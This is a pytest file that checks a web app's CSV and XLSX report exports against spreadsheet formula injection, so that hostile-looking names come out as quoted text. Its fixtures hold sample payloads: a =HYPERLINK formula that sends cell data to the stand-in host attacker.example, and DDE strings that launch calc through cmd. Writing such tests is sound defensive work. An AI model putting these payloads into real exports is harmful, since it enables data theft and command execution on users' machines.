"""Every CSV and XLSX the app writes shows text that looks like a spreadsheet formula as text:
a name such as =HYPERLINK("http://attacker.example/?"&A2,"Click") never becomes a live formula,
while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.reports.exports import FORMULA_START, csv_bytes, xlsx_bytes
from tests.visits.pages_support import build_world

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = '-2+3+cmd|" /C calc"!A0'
PLUS = "+1+1"
TAB = "\t=1+1"

#: Every export of the app (the admin sees them all), and the text it must carry as written.
EXPORTS = [
    ("/reports/teams.csv?unit=C1&table=members", HYPERLINK),
    ("/reports/teams.xlsx?unit=C1", HYPERLINK),
    ("/reports/completion.csv?unit=P", MINUS),
    ("/reports/completion.xlsx?unit=P", MINUS),
    ("/reports/indicators.csv?unit=P", AT_SUM),
    ("/reports/indicators.xlsx?unit=P", AT_SUM),
    ("/reports/trends.csv?unit=P", None),
    ("/reports/trends.xlsx?unit=P", None),
    ("/reports/courses/test-course/export.csv?unit=P&table=modules", None),
    ("/reports/courses/test-course/export.xlsx?unit=P", None),
    ("/outcomes/ledger.csv?unit=C1", HYPERLINK),
    ("/outcomes/ledger.xlsx?unit=C1", HYPERLINK),
    ("/outcomes/import/template.csv", None),
    ("/api/v1/reports/completion?unit=P&format=csv", MINUS),
    ("/api/v1/reports/visits?unit=P&format=csv", AT_SUM),
]


@pytest.fixture
def hostile(db, units, make_user, make_course):
    """Names that look like formulas: a team member's, two communes' and a village's."""
    w = build_world(db, units, make_user)
    w.member.full_name = HYPERLINK
    w.colleague.full_name = TAB
    units["c1"].name = MINUS
    units["c2"].name = AT_SUM
    units["v1a"].name = PLUS
    w.team.name = PLUS
    db.session.flush()
    make_course("test-course")
    w.admin = make_user("admin", units["province"], full_name="Quản trị")
    return w


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_is_safe(data: bytes, expected: str | None) -> None:
    assert data.startswith("\ufeff".encode())
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_START) and not is_number(cell)]
    assert live == []
    if expected is not None:
        assert "'" + expected in cells


def assert_xlsx_is_safe(data: bytes, expected: str | None) -> None:
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    if expected is not None:
        written = [cell for cell in cells if cell.value == expected]
        assert written, "the text is missing from the workbook"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in written)


@pytest.mark.parametrize(("url", "expected"), EXPORTS)
def test_no_export_carries_a_live_formula(client, login_as, api_token, hostile, url, expected):
    if url.startswith("/api/"):
        response = client.get(url, headers=api_token(hostile.admin))
    else:
        login_as(hostile.admin)
        response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    if "csv" in response.mimetype:
        assert_csv_is_safe(response.data, expected)
    else:
        assert_xlsx_is_safe(response.data, expected)


def test_the_province_team_export_shows_the_name_as_text_for_the_department(client, login_as, hostile):
    login_as(hostile.department)
    rows = list(csv.reader(io.StringIO(client.get("/reports/teams.csv?unit=C1").data.decode("utf-8-sig"))))
    assert [cell for row in rows for cell in row if HYPERLINK in cell] == ["'" + HYPERLINK]
    workbook = load_workbook(io.BytesIO(client.get("/reports/teams.xlsx?unit=C1").data))
    [cell] = [cell for row in workbook.worksheets[0].iter_rows() for cell in row if cell.value == HYPERLINK]
    assert cell.data_type == "s"


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    rows = [["name", "change", "share"], [HYPERLINK, -3, -0.25], ["-", 0, 1.5], [PLUS, None, "ok"]]
    parsed = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"))))
    assert parsed == [
        ["name", "change", "share"],
        ["'" + HYPERLINK, "-3", "-0.25"],
        ["'-", "0", "1.5"],
        ["'+1+1", "", "ok"],
    ]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("Sheet", rows)]))).worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["name", "change", "share"], [HYPERLINK, -3, -0.25], ["-", 0, 1.5], [PLUS, None, "ok"]]
    assert sheet["B2"].data_type == "n" and sheet["A2"].data_type == "s"
